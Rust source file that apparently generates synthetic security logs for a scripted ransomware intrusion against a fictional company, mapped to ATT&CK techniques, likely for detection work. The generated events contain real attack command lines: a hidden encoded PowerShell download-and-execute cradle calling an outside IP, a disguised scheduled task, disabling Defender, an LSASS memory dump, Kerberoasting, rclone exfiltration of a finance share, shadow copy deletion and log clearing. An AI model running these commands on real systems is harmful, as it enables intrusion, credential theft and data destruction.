//! What happens to the manufacturer: from a mailed document to the domain controller and to deleted backups.

use super::super::clock::Clock;
use super::super::linux;
use super::super::network::{self, Connection};
use super::super::random::Random;
use super::super::windows::{self, Logged, Start};
use super::super::world::Tenant;
use super::{CMD, POWERSHELL, Plan, SYSTEM, encoded, file, start};

/// Adds the manufacturer's attacks.
pub(super) fn plan(plan: &mut Plan, clock: Clock, random: &mut Random, acme: &Tenant) {
    workstation(plan, clock, random, acme);
    domain(plan, clock, random, acme);
    network_and_jump_host(plan, clock, random, acme);
}

fn workstation(plan: &mut Plan, clock: Clock, random: &mut Random, acme: &Tenant) {
    let victim = acme.host("WS-017");
    let person = format!("ACME\\{}", acme.users[victim.owner].name);
    let sid = acme.users[victim.owner].sid.clone();
    let word = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE";
    let word_command = "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE\" /n \"C:\\Users\\Public\\Downloads\\Offer 4471.docm\"";

    plan.begin(
        "acme",
        "encoded-powershell",
        "Word document starts encoded PowerShell",
        "A mailed document runs PowerShell, which loads its next stage into memory.",
        &["T1059.001", "T1204.002", "T1566.001"],
        &[],
    );
    let script = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.23/a.ps1')";
    let command = format!("powershell.exe -nop -w hidden -enc {}", encoded(script));
    let time = clock.at(9, 14, 31, 562_000);
    let text = windows::sysmon_start(
        random,
        time,
        victim,
        &start(
            POWERSHELL,
            "PowerShell.EXE",
            &command,
            (word, word_command),
            &person,
        ),
    );
    plan.add(file::ACME_SYSMON, time, Some(victim), text);
    let time = clock.at(9, 14, 32, 104_331);
    let text = windows::powershell_event(random, time, victim, &sid, 4104, script);
    plan.add(file::ACME_POWERSHELL, time, Some(victim), text);

    plan.begin(
        "acme",
        "scheduled-task",
        "Scheduled task runs a hidden loader",
        "The intruder comes back after every reboot by a task that looks like OneDrive.",
        &["T1053.005"],
        &[],
    );
    let task = format!(
        "schtasks /create /tn \"OneDrive Sync\" /sc hourly /tr \"powershell -w hidden -enc {}\" /f",
        encoded("IEX $env:od")
    );
    let time = clock.at(9, 21, 7, 118_000);
    let text = windows::sysmon_start(
        random,
        time,
        victim,
        &start(
            "C:\\Windows\\System32\\schtasks.exe",
            "schtasks.exe",
            &task,
            (POWERSHELL, &command),
            &person,
        ),
    );
    plan.add(file::ACME_SYSMON, time, Some(victim), text);
    let content = format!(
        "<?xml version=\"1.0\" encoding=\"UTF-16\"?>\r\n<Task version=\"1.2\" xmlns=\"http://schemas.microsoft.com/windows/2004/02/mit/task\">\r\n  <Actions Context=\"Author\"><Exec><Command>powershell</Command><Arguments>-w hidden -enc {}</Arguments></Exec></Actions>\r\n</Task>",
        encoded("IEX $env:od")
    );
    let data = [
        ("SubjectUserSid", sid.as_str()),
        ("SubjectUserName", &acme.users[victim.owner].name),
        ("SubjectDomainName", "ACME"),
        ("SubjectLogonId", "0x4a1f2c"),
        ("TaskName", "\\OneDrive Sync"),
        ("TaskContent", &content),
    ];
    let time = clock.at(9, 21, 7, 402_000);
    let text = windows::winlogbeat(
        random,
        time,
        victim,
        &Logged::security(
            4698,
            "Other Object Access Events",
            "A scheduled task was created.",
            &data,
        ),
    );
    plan.add(file::ACME_SECURITY, time, Some(victim), text);

    plan.begin(
        "acme",
        "defender-off",
        "Defender switched off by policy value",
        "Real-time protection is turned off in the registry before tools are brought in.",
        &["T1685", "T1562.001", "T1112"],
        &[],
    );
    let time = clock.at(10, 2, 44, 871_000);
    let text = windows::sysmon_event(
        random,
        time,
        victim,
        13,
        "C:\\Windows\\System32\\reg.exe",
        SYSTEM,
        &[
            ("EventType", "SetValue"),
            (
                "TargetObject",
                "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\\Real-Time Protection\\DisableRealtimeMonitoring",
            ),
            ("Details", "DWORD (0x00000001)"),
        ],
    );
    plan.add(file::ACME_SYSMON, time, Some(victim), text);

    plan.begin(
        "acme",
        "lsass-dump",
        "Memory of LSASS dumped with comsvcs.dll",
        "Passwords are read from the memory of the logon process, with nothing but Windows' own tools.",
        &["T1003.001"],
        &[],
    );
    let rundll = "C:\\Windows\\System32\\rundll32.exe";
    let time = clock.at(10, 5, 12, 30_000);
    let text = windows::sysmon_start(
        random,
        time,
        victim,
        &start(
            rundll,
            "RUNDLL32.EXE",
            "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 668 C:\\Windows\\Temp\\lsa.dmp full",
            (CMD, "cmd.exe"),
            SYSTEM,
        ),
    );
    plan.add(file::ACME_SYSMON, time, Some(victim), text);
    let time = clock.at(10, 5, 12, 377_000);
    let trace = "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|C:\\Windows\\SYSTEM32\\dbgcore.DLL+6ed1|C:\\Windows\\System32\\comsvcs.dll+2a31";
    let text = windows::sysmon_event(
        random,
        time,
        victim,
        10,
        rundll,
        SYSTEM,
        &[
            ("TargetImage", "C:\\Windows\\system32\\lsass.exe"),
            ("GrantedAccess", "0x1fffff"),
            ("CallTrace", trace),
            ("TargetUser", SYSTEM),
        ],
    );
    plan.add(file::ACME_SYSMON, time, Some(victim), text);

    let files = acme.host("SRV-FILE01");
    plan.begin(
        "acme",
        "rclone-exfiltration",
        "Finance share copied out with rclone",
        "A renamed folder of tools holds rclone, which copies a share to a cloud storage.",
        &["T1567.002", "T1048"],
        &[],
    );
    let time = clock.at(21, 40, 3, 219_000);
    let rclone = Start {
        description: "Rclone",
        company: "https://rclone.org",
        ..start(
            "C:\\ProgramData\\intel\\rclone.exe",
            "rclone.exe",
            "rclone.exe copy D:\\Shares\\Finance mega:q4 -q --ignore-existing --transfers 16",
            (CMD, "cmd.exe"),
            SYSTEM,
        )
    };
    let text = windows::sysmon_start(random, time, files, &rclone);
    plan.add(file::ACME_SYSMON, time, Some(files), text);
    let time = clock.at(21, 40, 5, 610_442);
    let text = network::conn_line(
        random,
        time,
        &Connection {
            from: &files.ip,
            to: "203.0.113.200",
            port: 443,
            proto: "tcp",
            service: "ssl",
            millis: 2_812_000,
            sent: 48_311_204_117,
            received: 91_223_004,
            state: "SF",
        },
    );
    plan.add(file::ACME_CONN, time, None, text);

    plan.begin(
        "acme",
        "shadow-copies",
        "Shadow copies deleted",
        "The last step before encryption: nothing to restore from.",
        &["T1490"],
        &[],
    );
    let time = clock.at(23, 11, 48, 905_000);
    let text = windows::sysmon_start(
        random,
        time,
        files,
        &start(
            "C:\\Windows\\System32\\vssadmin.exe",
            "VSSADMIN.EXE",
            "vssadmin.exe Delete Shadows /All /Quiet",
            (CMD, "cmd.exe /c C:\\ProgramData\\intel\\p.bat"),
            SYSTEM,
        ),
    );
    plan.add(file::ACME_SYSMON, time, Some(files), text);
}

fn domain(plan: &mut Plan, clock: Clock, random: &mut Random, acme: &Tenant) {
    let (controller, application) = (acme.host("DC01"), acme.host("SRV-APP02"));
    let victim = acme.host("WS-017");
    let user = &acme.users[victim.owner];

    plan.begin(
        "acme",
        "rdp-from-internet",
        "Remote desktop logon from the internet",
        "A terminal server is reachable from outside; after guesses an administrator's password fits.",
        &["T1133", "T1021.001", "T1078"],
        &[],
    );
    let terminal = acme.host("SRV-RDS01");
    for guess in 0..12 {
        let time = clock.at(3, 20 + guess, 10 + guess * 3, 417_000);
        let data = [
            ("SubjectUserSid", "S-1-0-0"),
            ("SubjectUserName", "-"),
            ("TargetUserName", "administrator"),
            ("TargetDomainName", "ACME"),
            ("Status", "0xc000006d"),
            ("SubStatus", "0xc000006a"),
            ("LogonType", "3"),
            ("WorkstationName", "-"),
            ("IpAddress", "203.0.113.45"),
            ("IpPort", "0"),
        ];
        let event = Logged {
            failure: true,
            ..Logged::security(4625, "Logon", "An account failed to log on.", &data)
        };
        let text = windows::winlogbeat(random, time, terminal, &event);
        plan.add(file::ACME_SECURITY, time, Some(terminal), text);
    }
    let time = clock.at(3, 33, 9, 52_000);
    let data = [
        ("SubjectUserSid", "S-1-5-18"),
        ("SubjectUserName", "SRV-RDS01$"),
        ("SubjectDomainName", "ACME"),
        ("SubjectLogonId", "0x3e7"),
        ("TargetUserSid", &user.sid),
        ("TargetUserName", "administrator"),
        ("TargetDomainName", "ACME"),
        ("TargetLogonId", "0x5f1c2a"),
        ("LogonType", "10"),
        ("LogonProcessName", "User32 "),
        ("AuthenticationPackageName", "Negotiate"),
        ("WorkstationName", "SRV-RDS01"),
        ("ProcessName", "C:\\Windows\\System32\\svchost.exe"),
        ("IpAddress", "203.0.113.45"),
        ("IpPort", "0"),
    ];
    let text = windows::winlogbeat(
        random,
        time,
        terminal,
        &Logged::security(4624, "Logon", "An account was successfully logged on.", &data),
    );
    plan.add(file::ACME_SECURITY, time, Some(terminal), text);

    plan.begin(
        "acme",
        "kerberoasting",
        "Service tickets collected for cracking",
        "A script asks for tickets of service accounts in the old cipher, to guess their passwords at home.",
        &["T1558.003", "T1059.001", "T1087.002"],
        &[],
    );
    let time = clock.at(10, 31, 20, 771_203);
    let text = windows::powershell_event(
        random,
        time,
        victim,
        &user.sid,
        4104,
        "Import-Module .\\pv.ps1; Invoke-Kerberoast -OutputFormat Hashcat | Select-Object Hash | Out-File h.txt",
    );
    plan.add(file::ACME_POWERSHELL, time, Some(victim), text);
    let principal = format!("{}@CORP.EXAMPLE.COM", user.name);
    let address = format!("::ffff:{}", victim.ip);
    for (index, service) in ["svc_sql", "svc_backup", "svc_mes"].into_iter().enumerate() {
        let time = clock.at(10, 31, 21 + index as i64, 9_000);
        let data = [
            ("TargetUserName", principal.as_str()),
            ("TargetDomainName", "CORP.EXAMPLE.COM"),
            ("ServiceName", service),
            ("TicketOptions", "0x40810000"),
            ("TicketEncryptionType", "0x17"),
            ("IpAddress", &address),
            ("IpPort", "50712"),
            ("Status", "0x0"),
            ("TransmittedServices", "-"),
        ];
        let text = windows::winlogbeat(
            random,
            time,
            controller,
            &Logged::security(
                4769,
                "Kerberos Service Ticket Operations",
                "A Kerberos service ticket was requested.",
                &data,
            ),
        );
        plan.add(file::ACME_SECURITY, time, Some(controller), text);
    }

    plan.begin(
        "acme",
        "psexec-service",
        "Service installed over the network (PsExec)",
        "With the cracked password the intruder runs programs on a server through a service.",
        &["T1569.002", "T1021.002", "T1543.003", "T1570"],
        &[],
    );
    let time = clock.at(11, 48, 55, 300_000);
    let data = [
        ("SubjectUserSid", user.sid.as_str()),
        ("SubjectUserName", "svc_backup"),
        ("SubjectDomainName", "ACME"),
        ("SubjectLogonId", "0x3fd21a"),
        ("ObjectType", "File"),
        ("IpAddress", &victim.ip),
        ("IpPort", "50990"),
        ("ShareName", "\\\\*\\ADMIN$"),
        ("ShareLocalPath", "\\??\\C:\\Windows"),
        ("RelativeTargetName", "PSEXESVC.exe"),
        ("AccessMask", "0x12019f"),
        (
            "AccessList",
            "%%1538\r\n\t\t\t\t%%4416\r\n\t\t\t\t%%4417\r\n\t\t\t\t",
        ),
    ];
    let text = windows::winlogbeat(
        random,
        time,
        application,
        &Logged::security(
            5145,
            "Detailed File Share",
            "A network share object was checked to see whether client can be granted desired access.",
            &data,
        ),
    );
    plan.add(file::ACME_SECURITY, time, Some(application), text);
    let time = clock.at(11, 48, 56, 11_000);
    let data = [
        ("ServiceName", "PSEXESVC"),
        ("ImagePath", "%SystemRoot%\\PSEXESVC.exe"),
        ("ServiceType", "user mode service"),
        ("StartType", "demand start"),
        ("AccountName", "LocalSystem"),
    ];
    let text = windows::winlogbeat(random, time, application, &Logged::service(&data));
    plan.add(file::ACME_SECURITY, time, Some(application), text);

    plan.begin(
        "acme",
        "dcsync",
        "Password hashes replicated from the domain controller",
        "A person's account asks the domain controller for replication, as only other controllers do.",
        &["T1003.006"],
        &[],
    );
    let time = clock.at(13, 2, 17, 187_000);
    let data = [
        ("SubjectUserSid", user.sid.as_str()),
        ("SubjectUserName", "svc_backup"),
        ("SubjectDomainName", "ACME"),
        ("SubjectLogonId", "0x3fd21a"),
        ("ObjectServer", "DS"),
        ("ObjectType", "%{19195a5b-6da0-11d0-afd3-00c04fd930c9}"),
        ("ObjectName", "%{3933c65d-ac7f-4c79-b5b7-ad0fb941333c}"),
        ("OperationType", "Object Access"),
        ("HandleId", "0x0"),
        ("AccessList", "%%7688\r\n\t\t\t\t"),
        ("AccessMask", "0x100"),
        (
            "Properties",
            "%%7688\r\n\t\t{1131f6ad-9c07-11d1-f79f-00c04fc2dcd2}\r\n\t{19195a5b-6da0-11d0-afd3-00c04fd930c9}\r\n",
        ),
    ];
    let text = windows::winlogbeat(
        random,
        time,
        controller,
        &Logged::security(
            4662,
            "Directory Service Access",
            "An operation was performed on an object.",
            &data,
        ),
    );
    plan.add(file::ACME_SECURITY, time, Some(controller), text);

    plan.begin(
        "acme",
        "log-cleared",
        "Security log cleared",
        "The intruder wipes the Security log of the server that was used as a stepping stone.",
        &["T1685.005", "T1070.001"],
        &[],
    );
    let time = clock.at(23, 31, 2, 640_000);
    let data = [
        ("SubjectUserSid", user.sid.as_str()),
        ("SubjectUserName", "svc_backup"),
        ("SubjectDomainName", "ACME"),
        ("SubjectLogonId", "0x3fd21a"),
    ];
    let event = Logged {
        provider: "Microsoft-Windows-Eventlog",
        ..Logged::security(1102, "Log clear", "The audit log was cleared.", &data)
    };
    let text = windows::winlogbeat(random, time, application, &event);
    plan.add(file::ACME_SECURITY, time, Some(application), text);
}

fn network_and_jump_host(plan: &mut Plan, clock: Clock, random: &mut Random, acme: &Tenant) {
    let victim = acme.host("WS-042");
    let resolver = acme.host("DC01");
    plan.begin(
        "acme",
        "dns-tunnel",
        "Data carried out in DNS names",
        "A workstation sends a file away in pieces, each piece the first label of a TXT query.",
        &["T1071.004", "T1048.003"],
        &[],
    );
    for piece in 0..40_i64 {
        let time = clock.at(14, 10 + piece / 10, (piece % 10) * 6, 100_000 + piece * 37);
        let query = format!("{}.{}.t1.example.net", random.hex(56), piece);
        let text = network::dns_line(
            random,
            time,
            &victim.ip,
            &resolver.ip,
            ("TXT", 16),
            &query,
            Some("TXT 32 a2b9c1d4e5f60718293a4b5c6d7e8f90"),
        );
        plan.add(file::ACME_DNS, time, None, text);
    }

    let jump = acme.host("lx-jump01");
    plan.begin(
        "acme",
        "ssh-guessing",
        "Root's password guessed over SSH",
        "Hundreds of guesses at the jump host, then one that fits.",
        &["T1110.001", "T1110", "T1078.003", "T1021.004"],
        &[],
    );
    for guess in 0..180_i64 {
        let time = clock.at(4, 2 + guess / 30, (guess % 30) * 2, 0);
        let text = linux::syslog(
            time,
            jump,
            "sshd",
            41_000 + guess as u64,
            &format!(
                "Failed password for root from 203.0.113.77 port {} ssh2",
                40_000 + guess
            ),
        );
        plan.add(file::ACME_AUTH, time, Some(jump), text);
    }
    let time = clock.at(4, 9, 14, 0);
    let text = linux::syslog(
        time,
        jump,
        "sshd",
        41_300,
        "Accepted password for root from 203.0.113.77 port 40188 ssh2",
    );
    plan.add(file::ACME_AUTH, time, Some(jump), text);
}
